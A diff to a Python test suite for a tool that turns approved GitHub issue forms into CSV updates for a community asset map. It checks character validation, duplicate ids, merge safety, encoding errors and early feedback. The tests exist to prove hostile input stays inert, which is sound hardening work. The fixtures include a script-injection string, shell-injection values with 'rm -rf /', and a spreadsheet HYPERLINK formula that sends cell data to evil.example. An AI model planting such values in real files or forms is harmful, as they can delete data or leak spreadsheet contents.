@@ -16,7 +16,16 @@ from click.testing import CliRunner
 from generator import inert
 from generator.cli import main
 from generator.config import load_settings
-from generator.contribute import COMMENT, PULL_REQUEST, SKIP, apply_issue, issue_from_event
+from generator.contribute import (
+    CHECKED,
+    COMMENT,
+    DONE,
+    PULL_REQUEST,
+    SKIP,
+    apply_issue,
+    check_issue,
+    issue_from_event,
+)
 from generator.forms import forms_for
 from generator.inventory import load
 from generator.issue_body import language_codes, parse
@@ -32,7 +41,10 @@ CHANGE_REPORTS = ("good-change", "good-confirm", "good-closure", "bad-change-unk
 
 # What reading each body gives: the problems (column, code), or none.
 PARSED = {
-    "bad-control-characters.md": [("name", "control-characters")],
+    "bad-control-characters.md": [("name", "bad-characters")],
+    "bad-direction-override-in-website.md": [("website", "bad-characters")],
+    "bad-invisible-characters-in-name.md": [("name", "bad-characters")],
+    "bad-id-too-long.md": [("id", "too-long")],
     "bad-internal-notes-heading.md": [(None, "unknown-heading")],
     "bad-missing-required.md": [("kind", "missing-value"), ("description", "missing-value")],
     "bad-name-on-two-lines.md": [("name", "not-one-line")],
@@ -53,6 +65,7 @@ HOSTILE_TEXT = {  # the answer kept exactly, as inert text
     "inert-html.md": ("description", '<script>alert("hi")</script><img src=x onerror='),
     "inert-markdown.md": ("name", "**Free** [money](https://evil.example) @riverbend-health"),
     "inert-shell.md": ("name", "Garden $(rm -rf /) `reboot`; echo pwned"),
+    "inert-formula.md": ("name", '=HYPERLINK("https://evil.example/?x="&A2,"Riverbend")'),
 }
 
 
@@ -109,6 +122,7 @@ def test_broken_and_hostile_bodies_are_rejected_clearly(name, settings):
 def test_every_fixture_is_in_a_table():
     named = set(PARSED) | set(REJECTED) | set(HOSTILE_TEXT)
     named |= {f"{n}.md" for n in CHANGE_REPORTS} | {"good-proposal.md",
+                                                    "good-earlier-category-label.md",
                                                     "drop-contact-without-consent.md"}
     assert {p.name for p in ISSUES.glob("*.md")} == named
 
@@ -287,11 +301,23 @@ def test_only_an_open_issue_just_labelled_approved_is_applied(data, settings):
     closed = _event("good-proposal.md")
     closed["issue"]["state"] = "closed"
     assert apply_issue(closed, data, settings).result == SKIP
-    unlabelled = _event("good-proposal.md")
-    unlabelled["issue"]["labels"] = [{"name": "approved"}]
-    outcome = apply_issue(unlabelled, data, settings)
+    not_a_form = _event("good-proposal.md")
+    not_a_form["issue"]["labels"] = [{"name": "approved"}]
+    not_a_form["issue"]["body"] = "### Hello\n\nPlease add our choir."
+    outcome = apply_issue(not_a_form, data, settings)
     assert outcome.result == COMMENT and "proposal" in outcome.comment
     assert (data / "good.csv").read_bytes() == original
+
+
+def test_an_issue_that_lost_its_form_label_is_known_by_its_questions(data, settings):
+    """Issue forms add their label only when it exists: until the check workflow has made
+    it, an issue made with a form has none. Its headings still say which form it is."""
+    for name, label in (("good-proposal.md", "proposal"), ("good-change.md", "change-report")):
+        event = _event(name)
+        event["issue"]["labels"] = [{"name": "approved"}]
+        assert apply_issue(event, data, settings, today=TODAY).result == PULL_REQUEST
+        event["action"], event["label"] = "opened", None
+        assert check_issue(event, data, settings, today=TODAY).label == label
 
 
 @pytest.mark.parametrize("event", [{}, {"issue": {"number": "1; rm -rf /"}}, [],
@@ -386,3 +412,148 @@ def test_review_command_writes_a_file(tmp_path, data):
                                        "--config", str(ROOT / "mkdocs.yml")])
     assert result.exit_code == 0, result.output
     assert out.read_text(encoding="utf-8").startswith("# Assets due for review")
+
+
+# --- hardening: what lands in a steward's file ---------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Riverbend")'
+
+
+def test_a_formula_answer_lands_as_text_that_no_spreadsheet_runs(data, settings):
+    outcome = apply_issue(_event("inert-formula.md"), data, settings, today=TODAY)
+    assert outcome.result == PULL_REQUEST, outcome.comment
+    table = read_table(data / "good.csv")
+    record = next(r for r in table.records if r.cells["name"] == FORMULA)
+    assert "'" + FORMULA in record.raw  # in the file: the apostrophe that keeps it text
+    problems = load(data, settings, today=TODAY).problems
+    assert [p for p in problems if p.is_error or p.code == "formula-text"] == []
+
+
+def test_the_earlier_wording_of_a_choice_is_understood(settings):
+    answers = _parse("good-earlier-category-label.md", settings).answers
+    assert answers["category"] == "nature; belonging"
+
+
+def test_a_change_report_shows_each_cell_old_and_new(data, settings):
+    outcome = apply_issue(_event("good-change.md"), data, settings, today=TODAY)
+    assert outcome.result == PULL_REQUEST
+    block = outcome.body.split("```text\n", 1)[1].split("\n```", 1)[0]
+    assert "accepting: waitlist → yes" in block.split("\n")
+    assert "phone: 613-555-0102 ext. 4 → 613-555-0199" in block.split("\n")
+    assert f"last_verified: 2026-09-15 → {TODAY.isoformat()}" in block.split("\n")
+
+
+@pytest.mark.parametrize("name", ["good-proposal.md", "good-change.md", "good-confirm.md",
+                                  "good-closure.md"])
+def test_applying_the_same_issue_again_changes_nothing_and_says_so(data, settings, name):
+    """Once the first pull request is merged, a second "approved" is not a failed job: the
+    map already says it, and a comment says so."""
+    assert apply_issue(_event(name), data, settings, today=TODAY).result == PULL_REQUEST
+    merged = (data / "good.csv").read_bytes()
+    outcome = apply_issue(_event(name), data, settings, today=TODAY)
+    assert outcome.result == DONE, outcome.comment
+    assert outcome.comment.startswith("Thank you!") and "nothing to change" in outcome.comment
+    assert (data / "good.csv").read_bytes() == merged
+
+
+def test_two_proposals_of_the_same_name_get_two_ids(data, settings, tmp_path):
+    """The first proposal's pull request is still open: its data folder is in `pending`,
+    so the second one's id gets a suffix instead of colliding with it."""
+    first = tmp_path / "pending" / "41"
+    shutil.copytree(data, first)
+    assert apply_issue(_event("good-proposal.md"), first, settings,
+                       today=TODAY).result == PULL_REQUEST
+    outcome = apply_issue(_event("good-proposal.md"), data, settings, today=TODAY,
+                          pending=tmp_path / "pending")
+    assert outcome.result == PULL_REQUEST
+    ids = [r.cells["id"] for r in read_table(data / "good.csv").records]
+    assert "jardin-communautaire-du-vieux-moulin-2" in ids
+    assert "jardin-communautaire-du-vieux-moulin" not in ids
+
+
+def test_two_approved_proposals_merge_without_a_conflict(data, settings, tmp_path):
+    """Each new row goes beside its neighbours by id, not at the end: two pull requests made
+    from the same main branch merge cleanly one after the other."""
+    import subprocess
+
+    base = tmp_path / "base.csv"
+    shutil.copy(data / "good.csv", base)
+    copies = []
+    for number, name in ((1, "Aaron's allotment"), (2, "Zumba in the park")):
+        copy = tmp_path / f"pr{number}"
+        shutil.copytree(data, copy)
+        event = _event("good-proposal.md")
+        event["issue"]["number"] = number
+        event["issue"]["body"] = event["issue"]["body"].replace(
+            "Jardin communautaire du Vieux-Moulin", name)
+        assert apply_issue(event, copy, settings, today=TODAY).result == PULL_REQUEST
+        copies.append(copy / "good.csv")
+    merged = subprocess.run(["git", "merge-file", "-p", str(copies[0]), str(base),
+                             str(copies[1])], capture_output=True)
+    assert merged.returncode == 0, merged.stdout.decode()
+    (data / "good.csv").write_bytes(merged.stdout)
+    ids = [r.cells["id"] for r in read_table(data / "good.csv").records]
+    assert {"aaron-s-allotment", "zumba-in-the-park"} <= set(ids)
+    assert not load(data, settings, today=TODAY).has_errors
+
+
+def test_text_the_file_cannot_hold_is_a_comment_for_contributor_and_steward(tmp_path,
+                                                                           settings):
+    folder = tmp_path / "data"
+    folder.mkdir()
+    for name in ("categories.yml", "neighbourhoods.yml", "good-windows-1252-semicolon.csv"):
+        shutil.copy(INVENTORY / name, folder / name)
+    original = (folder / "good-windows-1252-semicolon.csv").read_bytes()
+    event = _event("good-proposal.md")
+    event["issue"]["body"] = event["issue"]["body"].replace(
+        "No experience needed", "لا حاجة إلى خبرة 🌱")
+    outcome = apply_issue(event, folder, settings, today=TODAY)
+    assert outcome.result == COMMENT
+    assert [p.code for p in outcome.problems] == ["cannot-encode"]
+    assert "CSV UTF-8" in outcome.comment
+    assert (folder / "good-windows-1252-semicolon.csv").read_bytes() == original
+
+
+# --- feedback before approval ---------------------------------------------------------------
+
+
+def _opened(name: str) -> dict:
+    event = _event(name)
+    event["action"], event["label"] = "opened", None
+    event["issue"]["labels"] = [label for label in event["issue"]["labels"]
+                                if label["name"] != "approved"]
+    return event
+
+
+def test_an_opened_issue_hears_back_at_once_and_nothing_is_written(data, settings):
+    original = (data / "good.csv").read_bytes()
+    good = check_issue(_opened("good-proposal.md"), data, settings, today=TODAY)
+    assert good.result == CHECKED and "pass every check" in good.comment
+    bad = check_issue(_opened("bad-invalid-phone.md"), data, settings, today=TODAY)
+    assert bad.result == COMMENT and "not a valid phone number" in bad.comment
+    assert "edited" in bad.comment  # it runs again when the issue is edited
+    for outcome in (good, bad):
+        assert outcome.comment.startswith("<!-- assetmap:issue-check -->")
+        assert outcome.branch == "" and outcome.label == ""
+    assert (data / "good.csv").read_bytes() == original
+
+
+def test_the_check_skips_issues_that_are_not_made_with_a_form(data, settings):
+    event = _opened("good-proposal.md")
+    event["issue"]["labels"] = []
+    event["issue"]["body"] = "The map is great, thank you!"
+    assert check_issue(event, data, settings, today=TODAY).result == SKIP
+
+
+def test_the_check_command_writes_the_comment_and_the_missing_label(tmp_path, data):
+    event = _opened("bad-invalid-phone.md")
+    event["issue"]["labels"] = []
+    event_file = tmp_path / "event.json"
+    event_file.write_text(json.dumps(event), encoding="utf-8")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(main, ["check-issue", str(event_file), "--data", str(data),
+                                       "--out", str(out), "--config", str(ROOT / "mkdocs.yml")])
+    assert result.exit_code == 0, result.output
+    assert (out / "result").read_text() == COMMENT
+    assert (out / "label").read_text() == "proposal"
+    assert "not a valid phone number" in (out / "comment.md").read_text(encoding="utf-8")
